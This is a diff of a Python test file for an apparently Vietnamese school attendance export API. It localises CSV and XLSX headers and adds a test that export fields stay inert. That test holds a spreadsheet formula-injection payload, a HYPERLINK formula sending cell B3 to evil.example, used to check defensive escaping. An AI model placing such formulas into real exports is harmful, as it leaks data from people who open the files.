@@ -3,6 +3,7 @@ store path."""
 
 from __future__ import annotations
 
+import csv
 import io
 from collections.abc import Iterator
 from datetime import datetime
@@ -201,8 +202,11 @@ def test_exports_csv_and_xlsx(client: TestClient) -> None:
     assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
     assert "attachment" in r.headers["content-disposition"]
     text = r.content.decode("utf-8")
-    assert text.startswith("\ufeffstudent,full_name,status")
+    assert text.startswith("\ufeffMã học sinh,Họ và tên,Trạng thái,Giờ vào")
     assert "Nguyễn Văn An" in text and "2025-09-08 06:52:00" in text
+    english = client.get(f"/api/v1/attendance/register?class_id={cid}&date={DAY}&format=csv"
+                         "&lang=en", headers=h).content.decode("utf-8")
+    assert english.startswith("\ufeffStudent code,Full name,Status,First in")
 
     r = client.get("/api/v1/attendance/monthly?school=thcs-a&month=2025-09&format=xlsx",
                    headers=h)
@@ -210,10 +214,36 @@ def test_exports_csv_and_xlsx(client: TestClient) -> None:
     ws = load_workbook(io.BytesIO(r.content)).active
     assert ws is not None
     values = list(ws.values)
-    assert values[0][:3] == ("school", "class_id", "class_name")
-    assert values[1][2] == "6A1"
+    assert values[0][0] == "Tỷ lệ chuyên cần thcs-a tháng 09/2025"  # the title row
+    assert values[1][:3] == ("Trường", "Mã lớp (số)", "Lớp")
+    assert values[2][2] == "6A1"
+    assert ws.freeze_panes == "A3"
     r = client.get(f"/api/v1/attendance/daily?date={DAY}&format=xlsx", headers=h)
     assert r.status_code == 200 and r.content[:2] == b"PK"
+
+
+def test_exports_are_inert(client: TestClient) -> None:
+    """Issue 12: a correction reason beginning with = + - @ comes back as text: a string
+    cell in XLSX, a cell behind a quote in CSV."""
+    from openpyxl import load_workbook
+
+    h = auth(client, "admin")
+    reason = '=HYPERLINK("http://evil.example/?"&B3,"Xem")'
+    r = client.post(f"/api/v1/attendance/HS004/{DAY}/correction", headers=h,
+                    json={"status": "excused", "reason": reason})
+    assert r.status_code == 201, r.text
+    url = f"/api/v1/attendance/register?class_id={class_id(client, h)}&date={DAY}"
+    text = client.get(f"{url}&format=csv", headers=h).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    at = rows[0].index("Lý do điều chỉnh")
+    (hs4,) = [row for row in rows if row[0] == "HS004"]
+    assert hs4[at] == "'" + reason and hs4[2] == "Có phép"
+    ws = load_workbook(io.BytesIO(client.get(f"{url}&format=xlsx", headers=h).content)).active
+    assert ws is not None
+    assert ws["A1"].value == "Sổ điểm danh lớp 6A1 ngày 08/09/2025"
+    cells = [c for row in ws.iter_rows() for c in row if c.value == reason]
+    assert len(cells) == 1 and cells[0].data_type == "s"
+    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
 
 
 def test_notifications_list_is_for_admins(client: TestClient) -> None:
